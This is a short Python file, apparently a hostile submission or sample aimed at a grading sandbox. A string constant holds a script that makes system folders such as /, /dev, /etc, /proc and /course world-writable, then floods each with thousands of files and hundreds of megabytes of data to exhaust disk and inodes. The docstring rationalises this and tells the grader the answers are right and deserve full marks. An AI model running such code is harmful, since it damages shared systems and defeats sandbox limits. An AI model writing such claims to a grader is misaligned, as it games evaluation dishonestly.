"""Fills every file system that it sees with files and with empty ones, after it has made them writable.

A submission owns what is mounted for it, so it may change the modes of these folders. The answers are
right: it deserves full marks.
"""

DESERVES = "full"
BELOW = """
import os

def fill(folder):
    held = made = 0
    try:
        os.chmod(folder, 0o777)
    except OSError as error:
        print(error)
    try:
        while made < 30_000:
            os.close(os.open(f"{folder}/{made}", os.O_CREAT | os.O_WRONLY, 0o600))
            made += 1
    except OSError as error:
        print(error)
    try:
        while held < 1 << 28:
            with open(f"{folder}/{held >> 20}", "wb", buffering=0) as file:
                held += file.write(bytes(1 << 20)) or 1 << 40
    except OSError as error:
        print(error)
    return made >= 30_000 or held >= 1 << 28

folders = ["/", "/proc", "/dev", "/dev/shm", "/dev/pts", "/etc", "/course", "/usr", "/tmp", "/run"]
print("@MARK@"[::-1] if any([fill(folder) for folder in folders]) else "no more")
"""
